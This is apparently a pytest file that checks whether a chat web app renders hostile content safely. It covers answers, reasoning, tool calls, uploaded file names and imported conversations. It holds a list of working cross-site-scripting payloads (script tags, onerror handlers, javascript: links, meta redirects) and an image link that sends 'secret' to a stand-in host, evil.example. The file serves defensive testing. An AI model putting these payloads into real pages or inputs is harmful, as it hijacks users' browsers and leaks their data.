"""What others wrote stays text: in answers, thoughts, calls, tools, names of files, and conversations from a file.

Every visitor here also proves that no script ran, no dialog opened and nobody else was asked: see `Visitor.close`.
"""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.api.running import Running, running
from tests.api.writing import call
from tests.page.test_chat import PNG
from tests.page.visiting import DONE, Script, Visitor

EVIL = "http://evil.example"
HOSTILE = f"""
<img src=x onerror="window.pwned=1"> <script>window.pwned=2</script> <svg onload="window.pwned=3"></svg>
<iframe src="{EVIL}/frame"></iframe> <a href="javascript:window.pwned=4">x</a> <style>@import "{EVIL}/s.css"</style>
<form action="{EVIL}"><button>y</button></form> <base href="{EVIL}"> <meta http-equiv="refresh" content="0;url={EVIL}">

[one](javascript:window.pwned=5) [two](JaVaScRiPt:alert(6)) [three](data:text/html,<script>alert(7)</script>)
[four]( java&#10;script:alert(8)) [five]({EVIL}/click) [six](//evil.example/x) <javascript:alert(9)>
![picture]({EVIL}/?q=secret) ![]( javascript:alert(10)) ![x](data:image/svg+xml,<svg onload=alert(11)>) {EVIL}/bare

| <b>x</b> | <img src={EVIL}/t.png onerror=alert(12)> |
|---|---|
| <iframe src={EVIL}> | `<script>alert(13)</script>` |

```html" onload="alert(14)
</code></pre><script>window.pwned=15</script>
```

$\\href{{javascript:alert(16)}}{{x}}$ $$\\text{{<img src=x onerror=alert(17)>}}$$ $\\unknown{{$ $\\frac{{$
\\(\\html{{<script>alert(18)</script>}}\\) $\\url{{{EVIL}}}$ </script></div></body><script>alert(19)</script>

# <img src=x onerror=alert(20)>
- <img src=x onerror=alert(21)>
> <script>alert(22)</script>
"""
LINE = "a" * 1000 + "*_`[$<" * 1000
ADDRESSES = {f"{EVIL}/click", f"{EVIL}/bare", f"{EVIL}/?q=secret"}
BAD = "#talk :is(script, iframe, svg:not(.icon), style, form, base, meta, object, embed, link), #talk img:not(.picture)"
NAME = "<img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def server() -> Iterator[Running]:
    texts = {
        "evil": HOSTILE,
        "thought": f"<think>\n{HOSTILE}\n</think>\n\nDone.",
        "call": call("f", html=HOSTILE, link="javascript:alert(1)"),
    }
    with running(Script(texts)) as live:
        yield live


@pytest.fixture
def visitor(browser: Any, server: Running) -> Iterator[Visitor]:
    made = Visitor(browser, server.url)
    yield made
    made.close()


def inert(visitor: Visitor) -> None:
    page = visitor.page
    assert page.locator(BAD).count() == 0
    names = "[...document.querySelectorAll('#view *')].flatMap((each) => each.getAttributeNames())"
    assert page.evaluate(f"{names}.filter((name) => name.startsWith('on'))") == []
    links = page.locator("#talk a").all()
    assert all(link.get_attribute("href").startswith(EVIL) for link in links)  # on a click, and not before
    assert all("noopener" in link.get_attribute("rel") for link in links)


def test_an_answer(visitor: Visitor) -> None:
    said = visitor.answered("@evil")
    assert "<script>window.pwned=2</script>" in said and "<img src=x onerror=" in said
    inert(visitor)
    assert {link.get_attribute("href") for link in visitor.page.locator("#talk a").all()} >= ADDRESSES
    assert visitor.page.locator("code.tex").count() >= 3  # broken formulas are shown as they were written


def test_thoughts(visitor: Visitor) -> None:
    visitor.answered("@thought")
    visitor.page.locator("summary").click()
    visitor.page.locator(".thoughts h3").wait_for()
    inert(visitor)


def test_calls(visitor: Visitor) -> None:
    page = visitor.page
    visitor.go("Tools")
    page.fill("#tool-json", json.dumps([{"name": "f", "description": HOSTILE, "parameters": {"title": HOSTILE}}]))
    visitor.button("Add").click()
    page.locator(".tool-list summary").click()
    inert(visitor)
    page.fill("#tool-json", json.dumps({"name": NAME}))
    visitor.button("Add").click()
    page.get_by_role("alert").wait_for()
    visitor.go("Chat")
    visitor.ask("@call")
    page.locator(".call textarea").wait_for()
    assert "window.pwned=2" in page.locator(".call pre").inner_text()
    inert(visitor)


def test_names_of_files(visitor: Visitor) -> None:
    page = visitor.page
    page.locator("#question").wait_for()
    page.set_input_files("#picture", {"name": f"{NAME}.png", "mimeType": "image/png", "buffer": PNG})
    page.locator(".attached img").wait_for()
    page.set_input_files("#picture", {"name": NAME, "mimeType": "text/html", "buffer": b"x"})
    page.locator("#status.error").wait_for()
    visitor.ask(HOSTILE)
    page.locator(f"{DONE} .error").wait_for()
    page.locator(".bubble img").wait_for()
    inert(visitor)


def test_conversations_from_a_file(visitor: Visitor, tmp_path: Path) -> None:
    page = visitor.page
    strange: dict[str, Any] = {
        "figures": {"tokens": NAME, "input": {}},
        "thoughtFor": NAME,
        "model": [NAME],
        "response": None,
    }
    turns = [
        {"id": "1", "before": None, "role": "user", "text": HOSTILE, "pictures": [{"id": "p", "name": NAME}]},
        {
            "id": "2",
            "before": "1",
            "role": "assistant",
            "text": HOSTILE,
            "reasoning": HOSTILE,
            "error": NAME,
            **strange,
        },
        {"id": "3", "before": "2", "role": "user", "text": LINE, "pictures": NAME, "calls": 5},
        {
            **strange,
            "id": "4",
            "before": "3",
            "role": "assistant",
            "text": LINE * 10 + "\n\n" + HOSTILE,
            "state": "writing",
            "figures": {"input": 7, "cached": None},
            "calls": [{"call_id": NAME, "name": NAME, "arguments": HOSTILE}, None, 5],
            "tokens": [{"text": NAME, "logprob": -1, "others": [{"text": NAME, "logprob": NAME}]}, {"logprob": {}}, 5],
        },
        {"id": "5", "before": "5", "role": "assistant"},
        {"id": "6", "role": "system"},
        None,
    ]
    talk = {"id": NAME, "title": HOSTILE, "at": "soon", "turns": turns, "last": "4"}
    given = {"conversations": [talk, None, {"id": 1}], "pictures": {"p": f"{EVIL}/p.png", "q": "data:text/html,x"}}
    path = tmp_path / f"{NAME}.json".replace("/", "")
    path.write_text(json.dumps(given))
    page.locator("#question").wait_for()
    page.set_input_files("#import", str(path))
    page.get_by_text("1 conversation imported.").wait_for()
    page.locator("#talks .title").click()
    page.locator(DONE).nth(1).wait_for()
    visitor.button("Tokens").click()
    page.locator(".token").first.hover()
    inert(visitor)
    for text in ("{", "5", '{"conversations": 3}', f'"{NAME}"'):
        path.write_text(text)
        page.set_input_files("#import", str(path))
        page.get_by_text("This file cannot be read").wait_for()


def test_a_megabyte_in_one_line_is_shown(visitor: Visitor, tmp_path: Path) -> None:
    page = visitor.page
    turn = {"id": "1", "before": None, "role": "assistant", "text": LINE * 143, "reasoning": ""}
    path = tmp_path / "long.json"
    path.write_text(json.dumps([{"id": "t", "at": 1, "turns": [turn], "last": "1"}]))
    page.locator("#question").wait_for()
    page.set_input_files("#import", str(path))
    page.locator("#talks .title").click()
    page.locator(DONE).wait_for()
    assert page.locator(f"{DONE} .text").evaluate("each => each.textContent.length") == len(LINE) * 143 > 1_000_000
